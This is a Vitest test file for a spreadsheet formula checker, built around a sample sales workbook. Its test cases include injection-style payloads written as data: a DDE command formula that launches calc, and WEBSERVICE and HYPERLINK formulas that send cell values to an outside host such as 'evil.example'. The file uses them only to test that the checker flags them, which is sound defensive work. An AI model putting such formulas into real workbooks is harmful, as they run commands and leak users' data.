import { expect, test } from 'vitest'
import { open } from '../index.ts'

const rows = Array.from({ length: 8 }, (_, index) => [
  `Item ${8 - index}`,
  (index + 1) * 10,
  index === 3 ? null : index + 1,
])
const workbook = open(
  {
    sheets: [
      {
        name: 'Sales',
        blocks: [
          {
            top: 0,
            left: 0,
            values: [['Item', 'Amount', 'Count'], ...rows, ['Total', 360, '7']],
            formulas: [...Array.from({ length: 9 }, () => [null, null, null]), [null, '=SUM(B2:B9)', null]],
          },
        ],
        usedRange: { top: 0, left: 0, bottom: 9, right: 2 },
      },
    ],
    names: [{ name: 'rate', refersTo: 'Sales!$B$2' }],
  },
  { excelVersion: '2019', allowedHosts: ['example.org'] },
)
const codes = (formula: string): string[] =>
  workbook.check(formula, { sheet: 'Sales', row: 0, column: 5 }).map(({ code }) => code)

test('a sound formula has no findings', () => {
  expect(workbook.check('=SUM(B2:B9)', { sheet: 'Sales', row: 0, column: 5 })).toEqual([])
})

test.each([
  ['=SUM(B2:B9', 'syntax'],
  ["=cmd|'/C calc'!A0", 'unsafe'],
  ['=WEBSERVICE("http://a.example/"&B2)', 'unsafe'],
  ['=HYPERLINK("http://evil.example/?q="&B2,"open")', 'unsafe'],
  ['=HYPERLINK("http://evil.example","open")', 'unsafe'],
  ['=[Other.xlsx]S!A1', 'unsafe'],
  ['=SUMM(B2:B9)', 'unknown-function'],
  ['=XLOOKUP("Item 1",A2:A9,B2:B9)', 'unknown-function'],
  ['=GETPIVOTDATA("x",A1)', 'unsupported-function'],
  ['=SUM(Amounts)', 'unknown-name'],
  ['=SUM(Orders[Amount])', 'unknown-name'],
  ['=SUM(March!B2:B9)', 'unknown-name'],
  ['=SUM(B2:B5)', 'misses-rows'],
  ['=SUM(C2:C10)', 'text-numbers'],
  ['=AVERAGE(A1:B9)', 'mixed-types'],
  ['=F1+1', 'circular'],
  ['=B2/C5', 'divides-by-blank'],
  ['=VLOOKUP("Item 3",A2:C9,2)', 'needs-sorting'],
  ['=SUMPRODUCT(B:B*2)', 'whole-column'],
  ['=B2*1.19', 'hard-coded-number'],
  ['=B2/0', 'error-value'],
  ['=REPT("a",2)&REPT(SEQUENCE(9999,9999),2)', 'limit'],
])('%s is found to be: %s', (formula, code) => {
  expect(codes(formula)).toContain(code)
})

test.each([
  '=HYPERLINK("https://docs.example.org/x","open")',
  '=HYPERLINK("#Sales!A1","go")',
  '=COUNTIFS(A2:A9,"Item 3")',
  '=SUM(B$2:B5)',
  '=SUM(B:B)',
  '=VLOOKUP("Item 3",A2:C9,2,FALSE)',
  '=B2*100/24',
  '=rate*2',
])('%s is let pass', (formula) => {
  expect(workbook.check(formula, { sheet: 'Sales', row: 0, column: 5 })).toEqual([])
})

test('a mistyped function, a missing bracket and a short range are mended', () => {
  expect(workbook.check('=SUMM(B2:B9)')[0]?.suggestion).toBe('=SUM(B2:B9)')
  expect(workbook.check('=SUM(B2:B9')[0]?.suggestion).toBe('=SUM(B2:B9)')
  expect(workbook.check('=SUM(B2:B5)')[0]?.suggestion).toBe('=SUM(B2:B9)')
  expect(workbook.check('=VLOOKUP("Item 3",A2:C9,2)').find(({ code }) => code === 'needs-sorting')?.suggestion).toBe(
    '=VLOOKUP("Item 3",A2:C9,2,FALSE)',
  )
})

test('a circle through another formula is seen', () => {
  const findings = workbook.check('=B10*2', { sheet: 'Sales', row: 3, column: 1 })
  expect(findings.map(({ code }) => code)).toContain('circular')
})
